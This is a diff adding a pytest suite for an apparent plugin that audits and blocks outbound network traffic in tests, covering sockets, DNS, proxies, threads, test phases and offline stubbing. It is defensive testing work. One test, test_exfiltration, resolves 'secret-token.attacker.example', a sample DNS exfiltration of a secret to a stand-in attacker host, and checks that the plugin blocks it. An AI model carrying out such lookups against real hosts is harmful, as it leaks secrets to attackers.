@@ -1,0 +1,356 @@
+"""The socket and DNS backstop, attribution to tests, phases, and offline mode.
+
+Loopback only: ``outbound_local = enforce`` makes 127.0.0.1 count as outbound, so real
+connections can be judged without leaving the machine; anything else is blocked before it goes.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+LISTENER = """
+import socket, contextlib, threading
+
+@contextlib.contextmanager
+def listening(host="127.0.0.1", kind=socket.SOCK_STREAM):
+    server = socket.socket(socket.AF_INET, kind)
+    server.bind((host, 0))
+    if kind == socket.SOCK_STREAM:
+        server.listen(16)
+    try:
+        yield server.getsockname()[1]
+    finally:
+        server.close()
+"""
+
+
+@pytest.fixture
+def suite(pytester: pytest.Pytester) -> pytest.Pytester:
+    pytester.makepyfile(listener=LISTENER)
+    return pytester
+
+
+def ini(mode: str, *lines: str) -> str:
+    return "\n".join(
+        ["[pytest]", f"outbound_mode = {mode}", "outbound_sensitive_machine = false", *lines, ""]
+    )
+
+
+RAW_CALLS = {
+    "connect": "socket.create_connection(('127.0.0.1', port)).close()",
+    "connect_ex": "s = socket.socket(); s.connect_ex(('127.0.0.1', port)); s.close()",
+    "sendto": "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x', ('127.0.0.1', port)); u.close()",
+    "asyncio-open_connection": "asyncio.run(open_and_close(port))",
+    "asyncio-sock_connect": "asyncio.run(sock_connect(port))",
+}
+
+RAW_HELPERS = """
+import asyncio, socket
+
+async def open_and_close(port):
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    writer.close()
+    await writer.wait_closed()
+
+async def sock_connect(port):
+    loop = asyncio.get_running_loop()
+    s = socket.socket()
+    s.setblocking(False)
+    await loop.sock_connect(s, ("127.0.0.1", port))
+    s.close()
+"""
+
+
+@pytest.mark.parametrize("call", sorted(RAW_CALLS))
+def test_raw_socket_recorded_in_audit_and_blocked_in_enforce(
+    suite: pytest.Pytester, call: str
+) -> None:
+    kind = "socket.SOCK_DGRAM" if call == "sendto" else "socket.SOCK_STREAM"
+    suite.makepyfile(
+        test_raw=RAW_HELPERS
+        + f"""
+import pytest
+from listener import listening
+from pytest_outbound import OutboundBlocked
+
+def test_raw(outbound):
+    with listening(kind={kind}) as port:
+        try:
+            {RAW_CALLS[call]}
+        except OutboundBlocked:
+            pass
+    [record] = outbound.requests
+    assert (record.client, record.host, record.port, record.verdict) == (
+        "socket", "127.0.0.1", port, "violation")
+"""
+    )
+    suite.makeini(ini("audit", "outbound_local = enforce"))
+    suite.runpytest().assert_outcomes(passed=1)
+    suite.makeini(ini("enforce", "outbound_local = enforce"))
+    result = suite.runpytest()
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(["*outbound request blocked: * (client: socket)*"])
+
+
+def test_looking_up_an_undocumented_name_is_a_dns_violation(suite: pytest.Pytester) -> None:
+    suite.makefile(".toml", outbound='[[destination]]\nname = "nuget"\nhosts = ["*.nuget.org"]\n')
+    suite.makeini(ini("enforce", "outbound_policy = outbound.toml"))
+    suite.makepyfile(
+        """
+        import socket, pytest
+        from pytest_outbound import OutboundBlocked
+
+        def test_exfiltration(outbound):
+            with pytest.raises(OutboundBlocked):
+                socket.getaddrinfo("secret-token.attacker.example", 443)
+            with pytest.raises(OutboundBlocked):
+                socket.gethostbyname("secret-token.attacker.example")
+            [first, second] = outbound.requests
+            assert (first.client, first.host, first.reasons) == (
+                "dns", "secret-token.attacker.example", ["dns"])
+        """
+    )
+    result = suite.runpytest()
+    result.assert_outcomes(failed=1)  # blocked twice, caught twice: the test still fails
+    result.stdout.fnmatch_lines(
+        [
+            "*outbound request blocked: DNS dns://secret-token.attacker.example (client: dns)",
+            "*why:  a name lookup of 'secret-token.attacker.example', which is not a documented host*",
+        ]
+    )
+
+
+def test_an_address_is_allowed_only_if_an_allowed_name_resolved_to_it(
+    suite: pytest.Pytester,
+) -> None:
+    suite.makefile(".toml", outbound='[[destination]]\nname = "local"\nhosts = ["localhost"]\n')
+    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
+    suite.makepyfile(
+        """
+        import socket, pytest
+        from listener import listening
+        from pytest_outbound import OutboundBlocked
+
+        def test_real_peer(outbound):
+            with listening() as port:
+                with pytest.raises(OutboundBlocked, match="127.0.0.1"):
+                    socket.create_connection(("127.0.0.1", port))   # nothing resolved to it yet
+                family, kind, proto, _, address = socket.getaddrinfo("localhost", port, socket.AF_INET)[0]
+                socket.create_connection(address).close()            # now "localhost" resolved to it
+            assert [(r.client, r.verdict, r.destination) for r in outbound.requests] == [
+                ("socket", "violation", None), ("dns", "allowed", "local"), ("socket", "allowed", "local")]
+        """
+    )
+    result = suite.runpytest()
+    result.assert_outcomes(failed=1)  # the first, blocked connection fails it
+    result.stdout.fnmatch_lines(["*1 outbound request(s) were blocked*"])
+
+
+def test_an_http_request_is_not_reported_again_by_the_backstop(
+    suite: pytest.Pytester, loopback: None
+) -> None:
+    suite.makefile(".toml", outbound='[[destination]]\nname = "local"\nhosts = ["localhost"]\n')
+    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
+    suite.makepyfile(
+        """
+        import httpx, requests, urllib.request
+        from loopback import serve
+
+        def test_once(outbound):
+            with serve() as base:
+                url = base.replace("127.0.0.1", "localhost") + "/x"
+                requests.get(url)
+                httpx.get(url)
+                urllib.request.urlopen(url).read()
+            assert [r.client for r in outbound.requests] == ["requests", "httpx", "http.client"]
+        """
+    )
+    suite.runpytest().assert_outcomes(passed=1)
+
+
+def test_through_a_proxy_both_proxy_and_target_are_judged(
+    suite: pytest.Pytester, loopback: None
+) -> None:
+    suite.makefile(".toml", outbound='[[destination]]\nname = "update"\nhosts = ["octopus.com"]\n')
+    suite.makepyfile(
+        """
+        import pytest, requests
+        from loopback import serve
+        from pytest_outbound import OutboundBlocked
+
+        def test_proxy(outbound):
+            with serve() as proxy:   # the loopback server answers absolute URIs like a proxy
+                response = requests.get("http://octopus.com/check", proxies={"http": proxy})
+            assert response.text == "/check"   # the path of the absolute URI it was sent
+            assert [(r.client, r.host, r.verdict) for r in outbound.requests] == [
+                ("requests", "octopus.com", "allowed"), ("socket", "127.0.0.1", "allowed")]
+        """
+    )
+    suite.makeini(
+        ini(
+            "enforce",
+            "outbound_policy = outbound.toml",
+            "outbound_local = enforce",
+            "outbound_allow = 127.0.0.1",
+        )
+    )
+    suite.runpytest().assert_outcomes(passed=1)
+    # Without the proxy documented, the connection to it is blocked though the target is fine.
+    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_local = enforce"))
+    result = suite.runpytest()
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(
+        ["*outbound request blocked: CONNECT tcp://127.0.0.1:* (client: socket)"]
+    )
+
+
+def test_a_block_swallowed_in_a_background_thread_still_fails_the_test(
+    suite: pytest.Pytester,
+) -> None:
+    suite.makeini(ini("enforce"))
+    suite.makepyfile(
+        """
+        import threading, requests
+
+        def check_for_updates():
+            try:
+                requests.get("https://telemetry.example/v1")
+            except Exception:
+                pass
+
+        def test_background(outbound):
+            worker = threading.Thread(target=check_for_updates)
+            worker.start()
+            worker.join()
+            [record] = outbound.requests
+            assert record.thread != "MainThread"
+        """
+    )
+    result = suite.runpytest()
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(["*caught the OutboundBlocked exception; the test fails anyway*"])
+
+
+def test_phases_session_fixture_teardown_and_late_thread(suite: pytest.Pytester) -> None:
+    suite.makeini(ini("audit", "outbound_allow = *.example"))
+    suite.makeconftest(
+        """
+        import re, pytest, requests, responses
+
+        @pytest.fixture(scope="session", autouse=True)
+        def mock():   # first in, last out: answers the other session fixture's requests too
+            with responses.RequestsMock(assert_all_requests_are_fired=False) as m:
+                m.get(re.compile(".*"))
+                yield
+
+        @pytest.fixture(scope="session")
+        def licence():
+            requests.get("https://session-setup.example/")
+            yield
+            requests.get("https://session-teardown.example/")
+
+        @pytest.fixture
+        def per_test():
+            requests.get("https://fixture-setup.example/")
+            yield
+            requests.get("https://fixture-teardown.example/")
+        """
+    )
+    suite.makepyfile(
+        """
+        import threading, time, requests, json, pathlib
+
+        LATE = threading.Event()
+
+        def test_one(licence, per_test):
+            requests.get("https://call.example/")
+            def later():
+                LATE.wait()
+                requests.get("https://late.example/")
+            threading.Thread(target=later, daemon=True).start()
+
+        def test_two():
+            LATE.set()
+            time.sleep(0)  # let the late thread run (it is joined below)
+            for thread in __import__("threading").enumerate():
+                if thread.name != "MainThread" and thread.daemon:
+                    thread.join(5)
+        """
+    )
+    result = suite.runpytest("--outbound-report", "r.json", "-p", "no:randomly")
+    result.assert_outcomes(passed=2)
+    import json
+
+    report = json.loads((suite.path / "r.json").read_text())
+    seen = {(r["host"], r["nodeid"].split("::")[-1], r["phase"]) for r in report["requests"]}
+    assert seen == {
+        ("session-setup.example", "", "session"),
+        ("fixture-setup.example", "test_one", "setup"),
+        ("call.example", "test_one", "call"),
+        ("fixture-teardown.example", "test_one", "teardown"),
+        ("late.example", "test_one", "session"),
+        ("session-teardown.example", "", "session"),
+    }
+
+
+def test_collect_phase_and_non_test_violations_fail_the_session(suite: pytest.Pytester) -> None:
+    suite.makeini(ini("enforce"))
+    suite.makeconftest(
+        """
+        import pytest, requests
+
+        @pytest.fixture(scope="session", autouse=True)
+        def phone_home():
+            try:
+                requests.get("https://metrics.example/session")
+            except Exception:
+                pass   # swallowed outside any test
+        """
+    )
+    suite.makepyfile("def test_fine():\n    pass\n")
+    result = suite.runpytest()
+    result.assert_outcomes(passed=1)
+    assert result.ret == pytest.ExitCode.TESTS_FAILED
+    result.stdout.fnmatch_lines(
+        [
+            "*<session>*GET https://metrics.example/session [[]requests] undocumented",
+            "1 request(s) outside any test were blocked (enforce): the session fails",
+        ]
+    )
+
+
+def test_offline_blocks_documented_requests_that_reach_a_socket(
+    suite: pytest.Pytester, loopback: None
+) -> None:
+    suite.makefile(
+        ".toml", outbound='[[destination]]\nname = "update-check"\nhosts = ["octopus.com"]\n'
+    )
+    suite.makeini(ini("enforce", "outbound_policy = outbound.toml", "outbound_offline = true"))
+    suite.makepyfile(
+        """
+        import pytest, requests
+        from loopback import serve
+        from pytest_outbound import OutboundBlocked
+
+        def test_stubbed(outbound):
+            outbound.stub("update-check", json={"latest": "2"})
+            assert requests.get("https://octopus.com/check").json() == {"latest": "2"}
+
+        def test_local_traffic_is_fine(outbound):
+            with serve() as base:
+                assert requests.get(base + "/x").status_code == 200
+
+        def test_not_stubbed(outbound):
+            requests.get("https://octopus.com/check")
+        """
+    )
+    result = suite.runpytest("-p", "no:randomly")
+    result.assert_outcomes(passed=2, failed=1)
+    result.stdout.fnmatch_lines(
+        [
+            "*outbound request blocked: DNS dns://octopus.com (client: dns)",
+            "*why:  octopus.com is documented (update-check), but offline: stub it*",
+            "*offline mode (outbound_offline = true): answer it with a mock or a stub, e.g.:",
+            '*outbound.stub("update-check", json={...})',
+        ]
+    )
